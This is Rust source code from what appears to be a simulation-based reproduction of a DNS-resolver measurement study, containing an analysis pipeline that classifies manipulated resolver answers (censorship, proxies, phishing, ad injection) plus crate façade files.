    pub pages: usize,
    /// Suspicious tuples represented by those pages.
    pub tuples: usize,
    /// Tag names added relative to ground truth (exemplar).
    pub added: Vec<String>,
    /// Tag names removed relative to ground truth (exemplar).
    pub removed: Vec<String>,
    /// A domain whose page carries this modification.
    pub example_domain: String,
}

/// Everything the Sections 3–4 pipeline produces.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AnalysisReport {
    /// Resolvers scanned.
    pub fleet_size: u64,
    /// Prefilter statistics per domain category.
    pub per_category: BTreeMap<String, CategoryStats>,
    /// Same-answer / self-IP / LAN-IP oddity statistics.
    pub oddities: ResolverOddities,
    /// Label shares per category (Table 5).
    pub table5: Vec<Table5Row>,
    /// Social-media censorship origin shares (Figure 4).
    pub fig4: Fig4Report,
    /// Censorship analyses (Sec. 4.2).
    pub censorship: CensorshipSection,
    /// Case-study detections (Sec. 4.3).
    pub cases: CaseSection,
    /// Fraction of unexpected HTTP-bearing tuples that got a label.
    pub labeled_share: f64,
    /// Fraction of unexpected tuples yielding HTTP payloads (88.9% in
    /// the paper).
    pub http_share: f64,
    /// Of the no-HTTP tuples: LAN-address share (≤65.1% per set).
    pub no_http_lan_share: f64,
    /// Number of coarse clusters formed.
    pub clusters: usize,
    /// Pages clustered directly vs assigned to nearest exemplar.
    pub clustered_directly: usize,
    /// Pages assigned to their nearest exemplar after the cap.
    pub assigned_to_exemplar: usize,
    /// Fine-grained modification clusters: near-ground-truth pages
    /// grouped by *which tags* were added/removed (Sec. 3.6).
    pub modifications: Vec<ModificationCluster>,
    /// Tuple-granularity coverage of the domain scan: answered
    /// (resolver, domain) pairs against the reachable tuple space.
    /// A collection-time diagnostic — not persisted with the report.
    #[serde(skip)]
    pub domains_coverage: Coverage,
}

/// Social-media domains used by Figure 4 and the GFW analysis.
const SOCIAL: [&str; 3] = ["facebook.example", "twitter.example", "youtube.example"];

/// Build the trusted view: resolve every domain from our own vantage
/// (ARIN region), a few times to capture CDN edge rotation.
fn build_trusted_view(world: &World, domains: &[(String, DomainCategory)]) -> TrustedView {
    let mut view = TrustedView::default();
    for (name, _) in domains {
        let mut ips = BTreeSet::new();
        let mut exists = false;
        for salt in 0..3u64 {
            match world.universe.resolve(name, geodb::Rir::Arin, salt) {
                Resolution::Ips { ips: got, .. } => {
                    exists = true;
                    ips.extend(got);
                }
                Resolution::NxDomain => {}
            }
        }
        if exists {
            view.ips.insert(name.clone(), ips.into_iter().collect());
        } else {
            view.nonexistent.insert(name.clone());
        }
    }
    view
}

/// Run the full analysis pipeline against `world` at its current time,
/// enumerating its own fleet first (Step 1). Campaign drivers that
/// already hold an enumerated fleet should call
/// [`run_analysis_with_fleet`] directly so the enumeration runs once.
pub fn run_analysis(world: &mut World, opts: &AnalysisOptions) -> AnalysisReport {
    let vantage = world.scanner_ip;
    let enumeration = scanner::enumerate(world, vantage, opts.seed);
    run_analysis_with_fleet(world, enumeration.noerror_ips(), opts)
}

/// Run the analysis pipeline (Steps 2–6) over an already-enumerated
/// `fleet` of NOERROR resolvers.
pub fn run_analysis_with_fleet(
    world: &mut World,
    fleet: Vec<std::net::Ipv4Addr>,
    opts: &AnalysisOptions,
) -> AnalysisReport {
    let vantage = world.scanner_ip;
    let mut sp_run = telemetry::span("pipeline.analysis", world.now().millis());
    sp_run.attr("fleet", fleet.len());
    telemetry::counter("pipeline.resolvers_enumerated").add(fleet.len() as u64);

    // ---- Step 2: domain set ----
    let catalog_domains: Vec<(String, DomainCategory)> = {
        let mut v: Vec<(String, DomainCategory)> = world
            .catalog
            .domains
            .iter()
            .map(|d| (d.name.clone(), d.category))
            .collect();
        v.push((
            world.catalog.ground_truth.clone(),
            DomainCategory::GroundTruth,
        ));
        if let Some(filter) = &opts.domains {
            v.retain(|(n, _)| filter.contains(n));
        }
        v
    };
    let domain_names: Vec<String> = catalog_domains.iter().map(|(n, _)| n.clone()).collect();
    let category_of: Vec<DomainCategory> = catalog_domains.iter().map(|(_, c)| *c).collect();

    // ---- Step 3: trusted view + prefilter ----
    let mut sp_prefilter = telemetry::span("pipeline.prefilter", world.now().millis());
    let trusted = build_trusted_view(world, &catalog_domains);
    let universe = world.universe.clone();
    let forward = {
        let universe = universe.clone();
        move |name: &str| match universe.resolve(name, geodb::Rir::Arin, 0) {
            Resolution::Ips { ips, .. } => ips,
            Resolution::NxDomain => Vec::new(),
        }
    };
    // The prefilter borrows geo/rdns; clone the databases out of the
    // world so the world stays mutable for scanning.
    let geo = world.geo.clone();
    let rdns = world.rdns.clone();
    let prefilter = PreFilter::new(
        &trusted,
        &geo,
        &rdns,
        world.infra.cdn_default_cns.clone(),
        forward,
    );

    // ---- Step 4: domain scan with streaming prefilter ----
    let mut report = AnalysisReport {
        fleet_size: fleet.len() as u64,
        ..Default::default()
    };
    let mut unexpected: Vec<TupleObs> = Vec::new();
    let mut social_tuples: Vec<TupleObs> = Vec::new();
    // Per-resolver pattern tracking.
    #[derive(Default, Clone)]
    struct PerResolver {
        answered: u32,
        self_ip: u32,
        ns_only: u32,
        ip_sets: HashMap<u64, u32>,
        distinct_single: BTreeSet<Ipv4Addr>,
        suspicious: bool,
    }
    let mut per_resolver: Vec<PerResolver> = vec![PerResolver::default(); fleet.len()];
    let social_idx: BTreeSet<u16> = domain_names
        .iter()
        .enumerate()
        .filter(|(_, n)| SOCIAL.contains(&n.as_str()))
        .map(|(i, _)| i as u16)
        .collect();
    let censor_relevant: BTreeSet<u16> = category_of
        .iter()
        .enumerate()
        .filter(|(_, c)| {
            matches!(
                c,
                DomainCategory::Adult
                    | DomainCategory::Gambling
                    | DomainCategory::Dating
                    | DomainCategory::Filesharing
                    | DomainCategory::Alexa
            )
        })
        .map(|(i, _)| i as u16)
        .collect();
    let resolver_country: Vec<Option<Country>> = fleet.iter().map(|ip| geo.country(*ip)).collect();

    let mut answered_pairs: HashSet<(u32, u16)> = HashSet::new();
    let scan_retries;
    {
        let per_category = &mut report.per_category;
        let compliance = &mut report.censorship.compliance;
        let answered_pairs = &mut answered_pairs;
        let mut sink = |t: TupleObs| {
            answered_pairs.insert((t.resolver_idx, t.domain_idx));
            let di = t.domain_idx as usize;
            let category = category_of[di].label().to_string();
            let stats = per_category.entry(category).or_default();
            if t.response_ordinal == 0 {
                stats.responses += 1;
            }
            let verdict = prefilter.judge(&domain_names[di], &t);
            // Resolver-level patterns (first responses only).
            if t.response_ordinal == 0 {
                let pr = &mut per_resolver[t.resolver_idx as usize];
                pr.answered += 1;
                if t.ns_only {
                    pr.ns_only += 1;
                }
                if t.ips.len() == 1 && t.ips[0] == t.resolver_ip {
                    pr.self_ip += 1;
                }
                // Answer-set patterns are a *suspicious-resolver*
                // statistic (Sec. 4.1): track them for unexpected
                // answers only, else every honest resolver trips the
                // same-set rule via multi-hostname mail providers.
                if verdict.is_unexpected() && !t.ips.is_empty() {
                    let mut sorted = t.ips.clone();
                    sorted.sort_unstable();
                    let mut h = 0xcbf29ce484222325u64;
                    for ip in &sorted {
                        h ^= u32::from(*ip) as u64;
                        h = h.wrapping_mul(0x100000001b3);
                    }
                    *pr.ip_sets.entry(h).or_insert(0) += 1;
                    if t.ips.len() == 1 {
                        pr.distinct_single.insert(t.ips[0]);
                    }
                }
                match verdict {
                    FilterVerdict::LegitSameAs | FilterVerdict::LegitRdns => stats.legit += 1,
                    FilterVerdict::ExpectedNx => stats.legit += 1,
                    FilterVerdict::EmptyAnswer => stats.empty += 1,
                    FilterVerdict::ErrorResponse => stats.error += 1,
                    FilterVerdict::Unexpected => {
                        stats.unexpected += 1;
                        pr.suspicious = true;
                    }
                }
                // Compliance accounting for censorship-relevant domains.
                if censor_relevant.contains(&t.domain_idx) {
                    if let Some(cc) = resolver_country[t.resolver_idx as usize] {
                        let censored = verdict.is_unexpected();
                        // Only count resolvers that actually answered.
                        if matches!(
                            verdict,
                            FilterVerdict::LegitSameAs
                                | FilterVerdict::LegitRdns
                                | FilterVerdict::Unexpected
                        ) {
                            compliance.record(cc, &domain_names[di], censored);
                        }
                    }
                }
            }
            if social_idx.contains(&t.domain_idx) {
                social_tuples.push(t.clone());
            }
            if verdict.is_unexpected() && t.response_ordinal == 0 {
                unexpected.push(t);
            }
        };
        scan_retries = scan_domains_streaming_with_policy(
            world,
            vantage,
            &fleet,
            &domain_names,
            opts.seed,
            &opts.probe,
            &mut sink,
        );
    }
    // Tuple-granularity coverage: every (resolver, domain) slot either
    // answered, or is charged to the scanner (`gave_up`) when a live
    // NOERROR resolver still sits at the address, or to churn/filtering
    // (`unreachable`) otherwise.
    {
        let idx = world.responder_index();
        let week = (world.now().millis() / SimTime::WEEK) as u32;
        let n_dom = domain_names.len() as u64;
        let mut cov = Coverage {
            retries: scan_retries,
            ..Coverage::default()
        };
        for (ri, &ip) in fleet.iter().enumerate() {
            let answered = (0..domain_names.len())
                .filter(|&di| answered_pairs.contains(&(ri as u32, di as u16)))
                .count() as u64;
            cov.attempted += n_dom;
            cov.answered += answered;
            let expected = world
                .net
                .host_at(ip)
                .and_then(|h| idx.get(&h).copied())
                .map(|s| {
                    s.alive
                        && s.class == ResponseClass::NoError
                        && !world
                            .border_filtered_asns
                            .iter()
                            .any(|&(asn, w)| s.asn == asn && week >= w)
                })
                .unwrap_or(false);
            if expected {
                cov.gave_up += n_dom - answered;
            } else {
                cov.unreachable += n_dom - answered;
            }
        }
        report.domains_coverage = cov;
    }
    telemetry::counter("pipeline.tuples_unexpected").add(unexpected.len() as u64);
    sp_prefilter.attr("domains", domain_names.len());
    sp_prefilter.attr("unexpected_tuples", unexpected.len());
    sp_prefilter.finish(world.now().millis());

    // ---- Resolver oddities ----
    let mut self_ip_resolvers: BTreeSet<u32> = BTreeSet::new();
    for (ri, pr) in per_resolver.iter().enumerate() {
        if pr.answered > 0 && pr.self_ip * 4 >= pr.answered * 3 {
            self_ip_resolvers.insert(ri as u32);
        }
    }
    for pr in &per_resolver {
        if pr.answered == 0 {
            continue;
        }
        if pr.suspicious {
            report.oddities.suspicious_resolvers += 1;
        }
        if pr.self_ip * 4 >= pr.answered * 3 {
            report.oddities.self_ip_everywhere += 1;
        }
        // Static single IP: one address for (essentially) every domain.
        let unexpected_answers: u32 = pr.ip_sets.values().sum();
        if pr.distinct_single.len() == 1
            && unexpected_answers >= pr.answered * 8 / 10
            && pr.answered > 3
        {
            report.oddities.static_single_ip += 1;
        }
        if pr.ip_sets.values().any(|&n| n > 1) {
            report.oddities.same_set_multi_domain += 1;
        }
        if pr.ns_only * 2 >= pr.answered {
            report.oddities.ns_only += 1;
        }
    }

    // ---- Step 5: acquisition for unique (domain, ip) pairs ----
    // BTreeMap, not HashMap: the iteration order below fixes the page
    // group order, which fixes cluster exemplars — random order would
    // make the modification clusters differ run to run.
    let mut sp_fetch = telemetry::span("pipeline.fetch", world.now().millis());
    let mut pair_content: BTreeMap<(u16, Ipv4Addr), Acquired> = BTreeMap::new();
    for t in &unexpected {
        let Some(&ip) = t.ips.first() else { continue };
        let key = (t.domain_idx, ip);
        if pair_content.contains_key(&key) {
            continue;
        }
        let di = t.domain_idx as usize;
        let is_mail = category_of[di] == DomainCategory::Mx;
        let got = acquire_with_policy(
            world,
            vantage,
            t.resolver_ip,
            &domain_names[di],
            ip,
            is_mail,
            &opts.probe,
        );
        pair_content.insert(key, got);
    }

    // Ground-truth content per domain.
    let mut gt_bodies: BTreeMap<String, String> = BTreeMap::new();
    let mut gt_mail_banners: BTreeSet<String> = BTreeSet::new();
    for (name, cat) in &catalog_domains {
        if let Some(got) = scanner::acquire_trusted(world, vantage, name) {
            if let Some(http) = &got.http {
                gt_bodies.insert(name.clone(), http.body.clone());
            }
            if *cat == DomainCategory::Mx {
                for (_, b) in &got.mail_banners {
                    gt_mail_banners.insert(b.clone());
                }
            }
        }
    }

    // ---- Certificate rescue stage ----
    // Known-CDN default certificates rescue unconditionally (the paper's
    // CDN rule); SNI-only rescues are weaker — a TLS-forwarding proxy
    // also presents valid per-domain certificates — so they are revoked
    // when one IP validates too many distinct domains (proxy evidence,
    // handed to the proxy detector instead).
    let mut cert_ok_pairs: BTreeSet<(u16, Ipv4Addr)> = BTreeSet::new();
    let mut sni_only_pairs: BTreeSet<(u16, Ipv4Addr)> = BTreeSet::new();
    for (&(di, ip), got) in &pair_content {
        let domain = &domain_names[di as usize];
        let sni = got.https_sni.as_ref().and_then(|p| p.certificate.as_ref());
        let nosni = got
            .https_nosni
            .as_ref()
            .and_then(|p| p.certificate.as_ref());
        match prefilter.certificate_rule(domain, sni, nosni) {
            Some(classify::CertRule::CdnDefault) => {
                cert_ok_pairs.insert((di, ip));
            }
            Some(classify::CertRule::SniValid) => {
                cert_ok_pairs.insert((di, ip));
                sni_only_pairs.insert((di, ip));
            }
            None => {}
        }
    }
    {
        let mut per_ip: BTreeMap<Ipv4Addr, u32> = BTreeMap::new();
        for &(_, ip) in &sni_only_pairs {
            *per_ip.entry(ip).or_insert(0) += 1;
        }
        cert_ok_pairs.retain(|pair| !sni_only_pairs.contains(pair) || per_ip[&pair.1] <= 3);
    }
    for t in &unexpected {
        if let Some(&ip) = t.ips.first() {
            if cert_ok_pairs.contains(&(t.domain_idx, ip)) {
                let cat = category_of[t.domain_idx as usize].label().to_string();
                if let Some(stats) = report.per_category.get_mut(&cat) {
                    stats.cert_rescued += 1;
                    stats.unexpected = stats.unexpected.saturating_sub(1);
                    stats.legit += 1;
                }
            }
        }
    }
    let unexpected: Vec<TupleObs> = unexpected
        .into_iter()
        .filter(|t| match t.ips.first() {
            Some(&ip) => !cert_ok_pairs.contains(&(t.domain_idx, ip)),
            None => true,
        })
        .collect();
    telemetry::counter("pipeline.pages_fetched").add(pair_content.len() as u64);
    telemetry::counter("pipeline.cert_rescued_pairs").add(cert_ok_pairs.len() as u64);
    sp_fetch.attr("pairs_fetched", pair_content.len());
    sp_fetch.attr("cert_rescued", cert_ok_pairs.len());
    sp_fetch.finish(world.now().millis());

    // ---- Step 6: features, clustering, labeling ----
    let mut sp_cluster = telemetry::span("pipeline.cluster", world.now().millis());
    let mut interner = TagInterner::new();
    // Unique pages: fingerprint → representative (body, status, pairs).
    struct PageGroup {
        features: PageFeatures,
        body: String,
        status: u16,
        pairs: Vec<(u16, Ipv4Addr)>,
    }
    let mut groups: Vec<PageGroup> = Vec::new();
    let mut by_fingerprint: HashMap<u64, usize> = HashMap::new();
    let mut http_pairs = 0usize;
    let mut no_http_lan = 0usize;
    let mut no_http = 0usize;
    for (&(di, ip), got) in &pair_content {
        if cert_ok_pairs.contains(&(di, ip)) {
            continue;
        }
        let Some(page) = got
            .http
            .as_ref()
            .or(got.https_sni.as_ref())
            .or(got.https_nosni.as_ref())
        else {
            no_http += 1;
            if geodb::is_lan(ip) {
                no_http_lan += 1;
            }
            continue;
        };
        http_pairs += 1;
        let features = PageFeatures::extract(&page.body, &mut interner);
        let fp = features.fingerprint();
        match by_fingerprint.get(&fp) {
            Some(&gi) => groups[gi].pairs.push((di, ip)),
            None => {
                by_fingerprint.insert(fp, groups.len());
                groups.push(PageGroup {
                    features,
                    body: page.body.clone(),
                    status: page.status,
                    pairs: vec![(di, ip)],
                });
            }
        }
    }
    // Tuple-weighted coverage, as the paper reports it: one landing
    // page serving thousands of resolvers counts thousands of times.
    {
        let has_http: BTreeSet<(u16, Ipv4Addr)> = groups
            .iter()
            .flat_map(|g| g.pairs.iter().copied())
            .collect();
        let mut t_http = 0u64;
        let mut t_none = 0u64;
        let mut t_none_lan = 0u64;
        for t in &unexpected {
            let Some(&ip) = t.ips.first() else { continue };
            if has_http.contains(&(t.domain_idx, ip)) {
                t_http += 1;
            } else {
                t_none += 1;
                if geodb::is_lan(ip) {
                    t_none_lan += 1;
                }
            }
        }
        report.http_share = if t_http + t_none > 0 {
            t_http as f64 / (t_http + t_none) as f64
        } else {
            0.0
        };
        report.no_http_lan_share = if t_none > 0 {
            t_none_lan as f64 / t_none as f64
        } else {
            0.0
        };
    }
    let _ = (http_pairs, no_http, no_http_lan);

    // Cluster (capped) + nearest-exemplar assignment for the rest.
    let weights = FeatureWeights::default();
    let n_direct = groups.len().min(opts.cluster_cap);
    let direct_features: Vec<PageFeatures> = groups[..n_direct]
        .iter()
        .map(|g| g.features.clone())
        .collect();
    let flat = classify::cluster_pages(&direct_features, &weights, opts.cluster_threshold);
    report.clusters = flat.len();
    report.clustered_directly = n_direct;
    report.assigned_to_exemplar = groups.len() - n_direct;
    telemetry::counter("pipeline.clusters_formed").add(flat.len() as u64);
    sp_cluster.attr("unique_pages", groups.len());
    sp_cluster.attr("clusters", flat.len());
    sp_cluster.attr("clustered_directly", n_direct);
    sp_cluster.finish(world.now().millis());

    // Label each cluster from up to 5 exemplars.
    let mut sp_label = telemetry::span("pipeline.label", world.now().millis());
    let mut cluster_labels: Vec<Label> = Vec::with_capacity(flat.len());
    for members in &flat.clusters {
        let exemplars: Vec<LabelInput<'_>> = members
            .iter()
            .take(5)
            .map(|&m| LabelInput {
                status: groups[m].status,
                body: &groups[m].body,
            })
            .collect();
        cluster_labels.push(label_cluster(&exemplars));
    }
    // Page label per group: direct members take their cluster's label;
    // overflow groups take the nearest exemplar's cluster label.
    let mut group_label: Vec<Label> = vec![Label::Misc; groups.len()];
    for (gi, label_slot) in group_label.iter_mut().enumerate().take(n_direct) {
        *label_slot = cluster_labels[flat.assignment[gi]];
    }
    for gi in n_direct..groups.len() {
        // Nearest exemplar: first member of each cluster.
        let mut best = Label::Misc;
        let mut best_d = f64::INFINITY;
        for (ci, members) in flat.clusters.iter().enumerate() {
            if let Some(&m0) = members.first() {
                let d = page_distance(&groups[gi].features, &groups[m0].features, &weights);
                if d < best_d {
                    best_d = d;
                    best = cluster_labels[ci];
                }
            }
        }
        // Fall back to direct page labeling when no cluster is close.
        group_label[gi] = if best_d <= opts.cluster_threshold * 1.5 {
            best
        } else {
            label_page(&LabelInput {
                status: groups[gi].status,
                body: &groups[gi].body,
            })
        };
    }

    // Pair → label map (ordered for the same reason as `pair_content`).
    let mut pair_label: BTreeMap<(u16, Ipv4Addr), Label> = BTreeMap::new();
    for (gi, g) in groups.iter().enumerate() {
        for &pair in &g.pairs {
            pair_label.insert(pair, group_label[gi]);
        }
    }
    report.labeled_share = 1.0; // every HTTP page receives a label
    telemetry::counter("pipeline.pages_labeled").add(groups.len() as u64);
    sp_label.attr("pages_labeled", groups.len());
    sp_label.finish(world.now().millis());

    // ---- Self-IP content drill-down (Sec. 4.1) ----
    {
        let mut router: BTreeSet<u32> = BTreeSet::new();
        let mut camera: BTreeSet<u32> = BTreeSet::new();
        for t in &unexpected {
            if !self_ip_resolvers.contains(&t.resolver_idx) {
                continue;
            }
            let Some(&ip) = t.ips.first() else { continue };
            if ip != t.resolver_ip {
                continue;
            }
            if let Some(got) = pair_content.get(&(t.domain_idx, ip)) {
                if let Some(page) = got.http.as_ref() {
                    let body = page.body.to_ascii_lowercase();
                    if body.contains("router login") || body.contains("web configuration") {
                        router.insert(t.resolver_idx);
                    } else if body.contains("camera") || body.contains("netcam") {
                        camera.insert(t.resolver_idx);
                    }
                }
            }
        }
        report.oddities.self_ip_router_login = router.len() as u64;
        report.oddities.self_ip_camera = camera.len() as u64;
    }

    // ---- Fine-grained modification clustering (Sec. 3.6) ----
    {
        // Ground-truth features per domain.
        let mut gt_features: BTreeMap<String, PageFeatures> = BTreeMap::new();
        for (name, body) in &gt_bodies {
            gt_features.insert(name.clone(), PageFeatures::extract(body, &mut interner));
        }
        // Pages structurally close to their domain's ground truth but
        // not identical: candidates for small malicious modifications.
        let mut candidates: Vec<usize> = Vec::new();
        let mut deltas = Vec::new();
        for (gi, g) in groups.iter().enumerate() {
            let Some(&(di, _)) = g.pairs.first() else {
                continue;
            };
            let domain = &domain_names[di as usize];
            let Some(gtf) = gt_features.get(domain) else {
                continue;
            };
            let d = page_distance(&g.features, gtf, &weights);
            if d > 0.0 && d < 0.35 {
                candidates.push(gi);
                deltas.push(tag_delta(&gtf.tag_sequence, &g.features.tag_sequence));
            }
        }
        if !deltas.is_empty() {
            let flat = fine_cluster(&deltas, 0.3);
            for members in &flat.clusters {
                let Some(&m0) = members.first() else { continue };
                let exemplar = &deltas[m0];
                let names = |set: &BTreeMap<u16, u32>| -> Vec<String> {
                    set.keys()
                        .filter_map(|&id| interner.name(id).map(|s| s.to_string()))
                        .collect()
                };
                let tuples: usize = members
                    .iter()
                    .map(|&m| groups[candidates[m]].pairs.len())
                    .sum();
                let gi0 = candidates[m0];
                let example_domain = groups[gi0]
                    .pairs
                    .first()
                    .map(|&(di, _)| domain_names[di as usize].clone())
                    .unwrap_or_default();
                report.modifications.push(ModificationCluster {
                    pages: members.len(),
                    tuples,
                    added: names(&exemplar.added),
                    removed: names(&exemplar.removed),
                    example_domain,
                });
            }
            report.modifications.sort_by(|a, b| {
                b.tuples
                    .cmp(&a.tuples)
                    .then(a.example_domain.cmp(&b.example_domain))
            });
        }
    }

    // ---- Table 5 ----
    {
        // (domain, label) → distinct suspicious resolvers.
        let mut per_domain: HashMap<u16, HashMap<Label, BTreeSet<u32>>> = HashMap::new();
        let mut suspicious_per_domain: HashMap<u16, BTreeSet<u32>> = HashMap::new();
        // Country-level bogus rates for the censorship fallback: when a
        // forged answer serves no content, but the resolver sits in a
        // country where the majority of resolvers return bogus answers
        // for this domain, the paper attributes it to censorship (the
        // Sec. 4.2 "conspicuous distribution of countries" argument).
        let country_bogus_rate = |cc: Country, di: u16| -> f64 {
            report
                .censorship
                .compliance
                .rate(cc, &[domain_names[di as usize].as_str()])
                .unwrap_or(0.0)
        };
        for t in &unexpected {
            suspicious_per_domain
                .entry(t.domain_idx)
                .or_default()
                .insert(t.resolver_idx);
            if let Some(&ip) = t.ips.first() {
                let label = match pair_label.get(&(t.domain_idx, ip)) {
                    Some(&l) => Some(l),
                    None => {
                        // Content-less forged answer: censorship fallback.
                        let cc = resolver_country[t.resolver_idx as usize];
                        match cc {
                            Some(cc)
                                if censor_relevant.contains(&t.domain_idx)
                                    && country_bogus_rate(cc, t.domain_idx) >= 0.5 =>
                            {
                                Some(Label::Censorship)
                            }
                            _ => None,
                        }
                    }
                };
                if let Some(label) = label {
                    per_domain
                        .entry(t.domain_idx)
                        .or_default()
                        .entry(label)
                        .or_default()
                        .insert(t.resolver_idx);
                }
            }
        }
        // Category → label → (sum of shares, max share, domain count).
        let mut acc: BTreeMap<String, BTreeMap<Label, (f64, f64)>> = BTreeMap::new();
        let mut domains_per_cat: BTreeMap<String, u32> = BTreeMap::new();
        for (di, _name) in domain_names.iter().enumerate() {
            let cat = category_of[di].label().to_string();
            *domains_per_cat.entry(cat.clone()).or_insert(0) += 1;
            let total = suspicious_per_domain
                .get(&(di as u16))
                .map(|s| s.len())
                .unwrap_or(0);
            let cat_entry = acc.entry(cat).or_default();
            for label in Label::ALL {
                let count = per_domain
                    .get(&(di as u16))
                    .and_then(|m| m.get(&label))
                    .map(|s| s.len())
                    .unwrap_or(0);
                let share = if total == 0 {
                    0.0
                } else {
                    100.0 * count as f64 / total as f64
                };
                let e = cat_entry.entry(label).or_insert((0.0, 0.0));
                e.0 += share;
                e.1 = e.1.max(share);
            }
        }
        for (cat, labels) in acc {
            let n = domains_per_cat[&cat] as f64;
            let mut row = Table5Row {
                category: cat,
                shares: BTreeMap::new(),
            };
            for (label, (sum, max)) in labels {
                row.shares.insert(label.name().to_string(), (sum / n, max));
            }
            report.table5.push(row);
        }
    }

    // ---- Figure 4 ----
    {
        let mut seen_all: HashMap<u32, ()> = HashMap::new();
        let mut seen_unexpected: BTreeSet<u32> = BTreeSet::new();
        for t in &social_tuples {
            if t.response_ordinal == 0 && seen_all.insert(t.resolver_idx, ()).is_none() {
                if let Some(cc) = resolver_country[t.resolver_idx as usize] {
                    *report.fig4.all.entry(cc.as_str().to_string()).or_insert(0) += 1;
                }
            }
        }
        for t in &unexpected {
            if social_idx.contains(&t.domain_idx) && seen_unexpected.insert(t.resolver_idx) {
                if let Some(cc) = resolver_country[t.resolver_idx as usize] {
                    *report
                        .fig4
                        .unexpected
                        .entry(cc.as_str().to_string())
                        .or_insert(0) += 1;
                }
            }
        }
    }

    // ---- Censorship ----
    for (&(_di, ip), label) in &pair_label {
        if *label == Label::Censorship {
            report.censorship.landing.add(ip, &geo);
        }
    }
    {
        // "Legitimate" for the double-response analysis = the trusted
        // resolution plus any address the certificate stage validated
        // for that domain (regional CDN edges).
        let mut trusted_sets: Vec<BTreeSet<Ipv4Addr>> = domain_names
            .iter()
            .map(|n| trusted.trusted_ips(n).iter().copied().collect())
            .collect();
        for &(di, ip) in &cert_ok_pairs {
            trusted_sets[di as usize].insert(ip);
        }
        report.censorship.doubles = detect_double_responses(&social_tuples, |di, ips| {
            let set = &trusted_sets[di as usize];
            !ips.is_empty() && ips.iter().all(|i| set.contains(i))
        });
    }

    // ---- Case studies ----
    {
        let mut records: Vec<CaseRecord> = Vec::new();
        let mut seen: BTreeSet<(u32, u16)> = BTreeSet::new();
        for t in &unexpected {
            let Some(&ip) = t.ips.first() else { continue };
            if !seen.insert((t.resolver_idx, t.domain_idx)) {
                continue;
            }
            if let Some(got) = pair_content.get(&(t.domain_idx, ip)) {
                records.push(CaseRecord {
                    resolver_idx: t.resolver_idx,
                    resolver_ip: t.resolver_ip,
                    domain: domain_names[t.domain_idx as usize].clone(),
                    target_ip: ip,
                    acquired: got.clone(),
                });
            }
        }
        report.cases.proxies = detect_proxies(&records, &gt_bodies, opts.proxy_min_domains);
        report.cases.phishing = detect_phishing(&records, &gt_bodies);
        report.cases.ads = detect_ad_manipulation(&records, &gt_bodies);
        report.cases.mail = detect_mail_interception(&records, &gt_mail_banners);
        report.cases.malware = detect_malware_updates(&records);
    }

    sp_run.attr("clusters", report.clusters);
    sp_run.finish(world.now().millis());
    report
}
