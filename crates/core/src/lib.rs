//! # goingwild — reproduction of *Going Wild: Large-Scale Classification
//! # of Open DNS Resolvers* (IMC 2015)
//!
//! This crate is the public façade: it glues the substrates together
//! and exposes one runner per paper artifact (every table and figure).
//!
//! ```no_run
//! use goingwild::{experiments, WorldConfig};
//!
//! // Build a 1:1000-scale Internet and regenerate Figure 1.
//! let cfg = WorldConfig::default();
//! let fig1 = experiments::fig1_weekly_counts(cfg, 55);
//! println!("{}", goingwild::report::render_fig1(&fig1));
//! ```
//!
//! Architecture (bottom-up):
//!
//! | crate | role |
//! |---|---|
//! | `dnswire` | DNS wire format (RFC 1035 subset, CHAOS, 0x20) |
//! | `htmlsim` | HTML tokenizing, page features, distances, diff, generators |
//! | `geodb` | GeoIP / ASN / RIR / rDNS databases |
//! | `netsim` | deterministic event simulator: UDP, TCP, loss, injectors, churn |
//! | `resolversim` | resolver/web/mail host behaviours + tokio loopback server |
//! | `worldgen` | population synthesis calibrated to the paper |
//! | `scanner` | scanning campaigns + tokio UDP driver |
//! | `scanstore` | persistent delta-encoded snapshot store, checkpoint/resume |
//! | `classify` | prefilter, clustering, labeling, fingerprinting, case studies |
//! | `goingwild` | this crate: pipeline orchestration, experiments, reports |

pub mod collect;
pub mod experiments;
pub mod pipeline;
pub mod report;

pub use collect::{
    collect_churn, collect_weekly, fig1_from_source, fig2_from_source, stored_fig1, stored_fig2,
    stored_table3, table3_from_source, EnrichSink,
};
pub use pipeline::{run_analysis, AnalysisOptions, AnalysisReport};
pub use worldgen::{build_world, World, WorldConfig};
