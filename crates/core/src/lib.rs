//! # goingwild — reproduction of *Going Wild: Large-Scale Classification
//! # of Open DNS Resolvers* (IMC 2015)
//!
//! This crate is the public façade: it glues the substrates together
//! and exposes one runner per paper artifact (every table and figure),
//! behind a collect-once / derive-many split: [`collect_bundle`] runs
//! every required campaign at most once over a single world, and the
//! [`experiments::REGISTRY`] derives each artifact from the resulting
//! immutable snapshot stores (in parallel via [`experiments::derive_all`]).
//!
//! ```no_run
//! use goingwild::{collect_bundle, experiments, BundleOptions, WorldConfig};
//!
//! // Build a scaled Internet, collect the weekly campaign once, and
//! // regenerate Figure 1 from the committed snapshots.
//! let opts = BundleOptions::new(WorldConfig::default());
//! let exp = experiments::experiment("fig1").unwrap();
//! let bundle = collect_bundle(&opts, exp.requires, None).unwrap();
//! let out = (exp.derive)(&bundle, &experiments::DeriveOptions::default()).unwrap();
//! println!("{}", out.text);
//! ```
//!
//! Architecture (bottom-up):
//!
//! | crate | role |
//! |---|---|
//! | `dnswire` | DNS wire format (RFC 1035 subset, CHAOS, 0x20) |
//! | `htmlsim` | HTML tokenizing, page features, distances, diff, generators |
//! | `geodb` | GeoIP / ASN / RIR / rDNS databases |
//! | `netsim` | deterministic event simulator: UDP, TCP, loss, injectors, churn |
//! | `resolversim` | resolver/web/mail host behaviours + tokio loopback server |
//! | `worldgen` | population synthesis calibrated to the paper |
//! | `scanner` | scanning campaigns + tokio UDP driver |
//! | `scanstore` | persistent delta-encoded snapshot store, checkpoint/resume |
//! | `classify` | prefilter, clustering, labeling, fingerprinting, case studies |
//! | `goingwild` | this crate: pipeline orchestration, experiments, reports |

pub mod collect;
pub mod experiments;
pub mod pipeline;
pub mod report;

pub use collect::{
    analysis_from_source, collect_bundle, collect_churn, collect_weekly, fig1_from_source,
    fig2_from_source, ground_truth_from_source, table3_from_source, table4_from_source,
    util_from_source, verification_from_source, BundleData, BundleOptions, CampaignData,
    CampaignKind, EnrichSink, GroundTruth,
};
#[allow(deprecated)]
pub use collect::{stored_fig1, stored_fig2, stored_table3};
pub use experiments::{DeriveOptions, Experiment, ExperimentOutput};
pub use pipeline::{run_analysis, run_analysis_with_fleet, AnalysisOptions, AnalysisReport};
pub use worldgen::{build_world, World, WorldConfig};
