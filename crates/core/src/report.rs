//! Text rendering of experiment reports — the tables the `repro` binary
//! prints next to the paper's numbers.

